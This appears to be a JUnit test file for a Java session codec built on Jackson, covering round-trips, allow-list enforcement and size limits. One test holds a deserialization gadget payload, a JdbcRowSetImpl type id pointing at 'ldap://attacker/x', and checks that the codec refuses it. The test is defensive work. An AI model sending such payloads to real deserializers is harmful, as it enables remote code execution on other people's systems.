package io.sessionstate.jackson;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.sessionstate.SessionDataException;
import io.sessionstate.testing.SpringSecurityValues;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.springframework.security.jackson.SecurityJacksonModules;

class JacksonValueCodecTest {

  public record CartLine(String sku, int quantity) {}

  public record Cart(String owner, List<CartLine> lines, Map<String, Object> notes) {}

  public record Node(Node child) {}

  public interface Shape {}

  public record Circle(double radius) implements Shape {}

  public record Drawing(Shape shape) {}

  private static final ClassLoader LOADER = JacksonValueCodecTest.class.getClassLoader();

  private final JacksonValueCodec codec =
      JacksonValueCodec.builder()
          .allowPackage("org.springframework.security")
          .allowClass(Cart.class)
          .allowClass(Circle.class)
          .allowClass(Drawing.class)
          .mapper(mapper -> mapper.addModules(SecurityJacksonModules.getModules(LOADER)))
          .build();

  private Object roundTrip(Object value) {
    return codec.decode(codec.encode(value), Object.class);
  }

  private String json(Object value) {
    return new String(codec.encode(value), StandardCharsets.UTF_8);
  }

  @Test
  void roundTrip_springSecurityContext_keepsTokenAuthoritiesAndDetails() {
    var context = SpringSecurityValues.securityContext();
    SpringSecurityValues.assertSameSecurityContext(roundTrip(context), context);
  }

  @Test
  void roundTrip_springSavedRequest_keepsRedirectHeadersParametersLocalesAndCookies() {
    var saved = SpringSecurityValues.savedRequest();
    SpringSecurityValues.assertSameSavedRequest(roundTrip(saved), saved);
  }

  @Test
  void roundTrip_springCsrfToken_keepsNamesAndToken() {
    var token = SpringSecurityValues.csrfToken();
    SpringSecurityValues.assertSameCsrfToken(roundTrip(token), token);
  }

  @Test
  void roundTrip_springBadCredentialsException_keepsClassAndMessage() {
    var failure = SpringSecurityValues.badCredentials();
    SpringSecurityValues.assertSameBadCredentials(roundTrip(failure), failure);
  }

  @Test
  void encode_plainValues_haveNoTypeId() {
    assertThat(json("text")).isEqualTo("\"text\"");
    assertThat(json(42)).isEqualTo("42");
    assertThat(json(42L)).isEqualTo("42");
    assertThat(json(2.5d)).isEqualTo("2.5");
    assertThat(json(true)).isEqualTo("true");
    assertThat(json(new BigDecimal("19.99"))).isEqualTo("19.99");
    assertThat(json(new byte[] {1, 2, 3})).isEqualTo("\"AQID\"");
  }

  @Test
  void decode_plainValues_withTheirOwnClass() {
    assertThat(codec.decode(codec.encode(42L), Long.class)).isEqualTo(42L);
    assertThat(codec.decode(codec.encode(42L), long.class)).isEqualTo(42L);
    assertThat(codec.decode(codec.encode("text"), String.class)).isEqualTo("text");
    assertThat(codec.decode(codec.encode(new byte[] {1, 2, 3}), byte[].class))
        .containsExactly(1, 2, 3);
    assertThat(codec.decode(codec.encode(new BigDecimal("19.99")), BigDecimal.class))
        .isEqualTo(new BigDecimal("19.99"));
  }

  @Test
  void encode_record_typeIdAtTheRootAndOnlyWhereTheDeclaredTypeIsOpen() {
    // Without Spring Security's modules, which switch the mapper to NON_FINAL typing.
    JacksonValueCodec plain = JacksonValueCodec.builder().allowClass(Cart.class).build();
    Cart cart =
        new Cart("alice", List.of(new CartLine("apple", 2)), new HashMap<>(Map.of("gift", true)));
    assertThat(new String(plain.encode(cart), StandardCharsets.UTF_8))
        .isEqualTo(
            "{\"@class\":\""
                + Cart.class.getName()
                + "\",\"owner\":\"alice\",\"lines\":[\"java.util.ImmutableCollections$List12\","
                + "[{\"sku\":\"apple\",\"quantity\":2}]],\"notes\":{\"@class\":"
                + "\"java.util.HashMap\",\"gift\":true}}");
    assertThat(plain.decode(plain.encode(cart), Object.class)).isEqualTo(cart);
  }

  @Test
  void roundTrip_interfaceField_keepsTheImplementation() {
    Drawing drawing = new Drawing(new Circle(2.0));
    assertThat(roundTrip(drawing)).isEqualTo(drawing);
    assertThat(codec.decode(codec.encode(new Circle(1.0)), Shape.class)).isEqualTo(new Circle(1.0));
  }

  @Test
  void roundTrip_jdkCollectionsAndValues() {
    List<Object> values =
        List.of(
            new ArrayList<>(List.of("a", "b")),
            List.of("x"),
            Set.of(1),
            Map.of("k", "v"),
            Collections.unmodifiableList(new ArrayList<>(List.of("u"))),
            UUID.fromString("123e4567-e89b-12d3-a456-426614174000"),
            Instant.ofEpochSecond(1_700_000_000L),
            LocalDate.of(2025, 1, 31));
    for (Object value : values) {
      assertThat(roundTrip(value)).as(value.getClass().getName()).isEqualTo(value);
    }
  }

  @Test
  void roundTrip_stringArrayReadAsObject_keepsTheArray() {
    // The Servlet bridge reads every attribute as Object, so the array's type id decides.
    String[] roles = {"admin", "user"};
    assertThat(json(roles)).isEqualTo("[\"[Ljava.lang.String;\",[\"admin\",\"user\"]]");
    assertThat(roundTrip(roles)).isEqualTo(roles);
  }

  @Test
  void roundTrip_arraysInAnObjectPosition_primitiveNestedAndOfAllowedClasses() {
    // Shape[] needs Shape on the list: the name alone cannot tell an interface from a class.
    JacksonValueCodec plain =
        JacksonValueCodec.builder()
            .allowClass(Cart.class)
            .allowClass(Circle.class)
            .allowClass(Shape.class)
            .build();
    Map<String, Object> notes = new HashMap<>();
    notes.put("sizes", new int[] {1, 2});
    notes.put("grid", new long[][] {{1L}, {2L, 3L}});
    notes.put("circles", new Circle[] {new Circle(1.0)});
    notes.put("shapes", new Shape[] {new Circle(2.0)});
    notes.put("anything", new Object[] {"a", 1L});
    Cart back = plain.decode(plain.encode(new Cart("ann", List.of(), notes)), Cart.class);
    assertThat((int[]) back.notes().get("sizes")).containsExactly(1, 2);
    assertThat((long[][]) back.notes().get("grid")).isDeepEqualTo(new long[][] {{1L}, {2L, 3L}});
    assertThat((Circle[]) back.notes().get("circles")).containsExactly(new Circle(1.0));
    assertThat((Shape[]) back.notes().get("shapes")).containsExactly(new Circle(2.0));
    assertThat((Object[]) back.notes().get("anything")).containsExactly("a", 1L);
  }

  @Test
  void decode_arrayOfAClassOutsideAllowList_throwsNamingTheArray() {
    JacksonValueCodec strict = JacksonValueCodec.builder().build();
    byte[] bytes =
        ("[\"[[L" + Circle.class.getName() + ";\",[[{\"radius\":1.0}]]]")
            .getBytes(StandardCharsets.UTF_8);
    assertThatThrownBy(() -> strict.decode(bytes, Object.class))
        .isInstanceOf(SessionDataException.class)
        .hasMessage(
            "cannot decode value as java.lang.Object: class [[L"
                + Circle.class.getName()
                + "; is not in the allow-list or not found (allow it with"
                + " JacksonValueCodec.builder().allowClass(...) or .allowPackage(...))");
  }

  @Test
  void encode_typeIdOutsideAllowList_throwsNamingTheClass() {
    // Jackson writes a type id for any class; without the check the value would be stored and lost.
    List<Object> value = new ArrayList<>(List.of(new ArrayDeque<>(List.of("a"))));
    assertThatThrownBy(() -> codec.encode(value))
        .isInstanceOf(SessionDataException.class)
        .hasMessage(
            "cannot encode value of class java.util.ArrayList: it would not read back: class"
                + " java.util.ArrayDeque is not in the allow-list or not found (allow it with"
                + " JacksonValueCodec.builder().allowClass(...) or .allowPackage(...))");
    JacksonValueCodec strict = JacksonValueCodec.builder().allowClass(Cart.class).build();
    Cart cart = new Cart("ann", List.of(), new HashMap<>(Map.of("shape", new Circle(1.0))));
    assertThatThrownBy(() -> strict.encode(cart))
        .isInstanceOf(SessionDataException.class)
        .hasMessage(
            "cannot encode value of class "
                + Cart.class.getTypeName()
                + ": it would not read back: class "
                + Circle.class.getName()
                + " is not in the allow-list or not found (allow it with"
                + " JacksonValueCodec.builder().allowClass(...) or .allowPackage(...))");
  }

  @Test
  void decode_theValuesOwnClass_needsNoAllowListEntry() {
    JacksonValueCodec strict = JacksonValueCodec.builder().build();
    CartLine line = new CartLine("pear", 1);
    assertThat(strict.decode(strict.encode(line), CartLine.class)).isEqualTo(line);
  }

  @Test
  void decode_typeIdOutsideAllowList_throwsNamingTheClass() {
    JacksonValueCodec strict = JacksonValueCodec.builder().build();
    byte[] bytes = codec.encode(new Circle(1.0));
    assertThatThrownBy(() -> strict.decode(bytes, Object.class))
        .isInstanceOf(SessionDataException.class)
        .hasMessage(
            "cannot decode value as java.lang.Object: class "
                + Circle.class.getName()
                + " is not in the allow-list or not found (allow it with"
                + " JacksonValueCodec.builder().allowClass(...) or .allowPackage(...))");
  }

  @Test
  void decode_gadgetTypeId_isDeniedBeforeLoading() {
    byte[] bytes =
        "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker/x\"}]"
            .getBytes(StandardCharsets.UTF_8);
    assertThatThrownBy(() -> codec.decode(bytes, Object.class))
        .isInstanceOf(SessionDataException.class)
        .hasMessageStartingWith(
            "cannot decode value as java.lang.Object: class com.sun.rowset.JdbcRowSetImpl is not"
                + " in the allow-list")
        .hasMessageNotContaining("attacker");
  }

  @Test
  void decode_wrongType_throwsNamingBothClasses() {
    byte[] bytes = codec.encode(new Circle(1.0));
    assertThatThrownBy(() -> codec.decode(bytes, Cart.class))
        .isInstanceOf(SessionDataException.class)
        .hasMessage(
            "cannot decode value as "
                + Cart.class.getTypeName()
                + ": the bytes hold a "
                + Circle.class.getTypeName());
    assertThatThrownBy(() -> codec.decode(codec.encode("text"), Shape.class))
        .isInstanceOf(SessionDataException.class)
        .hasMessage(
            "cannot decode value as "
                + Shape.class.getTypeName()
                + ": the bytes hold a java.lang.String");
  }

  @Test
  void decode_unknownProperty_isIgnored() {
    String json = "{'@class':'%s','sku':'fig','quantity':3,'colour':'red'}";
    byte[] bytes =
        String.format(json, CartLine.class.getName())
            .replace('\'', '"')
            .getBytes(StandardCharsets.UTF_8);
    assertThat(codec.decode(bytes, CartLine.class)).isEqualTo(new CartLine("fig", 3));
  }

  @Test
  void decode_notJson_throwsWithoutQuotingTheBytes() {
    byte[] bytes = "{\"secret\": nope".getBytes(StandardCharsets.UTF_8);
    assertThatThrownBy(() -> codec.decode(bytes, CartLine.class))
        .isInstanceOf(SessionDataException.class)
        .hasMessage(
            "cannot decode value as "
                + CartLine.class.getTypeName()
                + ": the bytes are not JSON of this shape (StreamReadException)");
  }

  @Test
  void decode_nestedDeeperThanTheLimit_throws() {
    byte[] bytes =
        ("{\"@class\":\""
                + Node.class.getName()
                + "\","
                + "\"child\":{".repeat(150)
                + "}".repeat(151))
            .getBytes(StandardCharsets.UTF_8);
    assertThatThrownBy(() -> codec.decode(bytes, Node.class))
        .isInstanceOf(SessionDataException.class)
        .hasMessage(
            "cannot decode value as "
                + Node.class.getTypeName()
                + ": the JSON exceeds a limit (nesting depth 100 or maxBytes)");
  }

  @Test
  void decodeAndEncode_largerThanMaxBytes_throw() {
    JacksonValueCodec small = JacksonValueCodec.builder().maxBytes(10).build();
    assertThatThrownBy(() -> small.encode("x".repeat(20)))
        .isInstanceOf(SessionDataException.class)
        .hasMessage(
            "cannot encode value of class java.lang.String: it encodes to 22 bytes, more than"
                + " maxBytes (10)");
    assertThatThrownBy(() -> small.decode(codec.encode("x".repeat(20)), String.class))
        .isInstanceOf(SessionDataException.class)
        .hasMessage(
            "cannot decode value as java.lang.String: the value has 22 bytes, more than maxBytes"
                + " (10)");
  }

  @Test
  void builder_invalidOptions_areRefusedNamingOptionAndValue() {
    var builder = JacksonValueCodec.builder();
    assertThatThrownBy(() -> builder.maxBytes(0))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage("maxBytes must be positive: 0");
    assertThatThrownBy(() -> builder.allowPackage("java.util"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage(
            "allowPackage must not name a JDK package; allow the JDK classes you need one by one"
                + " with allowClass: java.util");
    assertThatThrownBy(() -> builder.allowPackage("com.example."))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage(
            "allowPackage must be a package name such as com.example.shop, without a trailing dot"
                + " or wildcard: com.example.");
    assertThatThrownBy(() -> builder.allowClass("com.example.*"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage(
            "allowClass must be a binary class name such as com.example.Outer$Inner:"
                + " com.example.*");
    assertThatThrownBy(() -> builder.allowClass(Circle[].class))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage(
            "allowClass takes a class, not a primitive or an array type (an array is allowed when"
                + " its component type is): "
                + Circle.class.getTypeName()
                + "[]");
  }
}
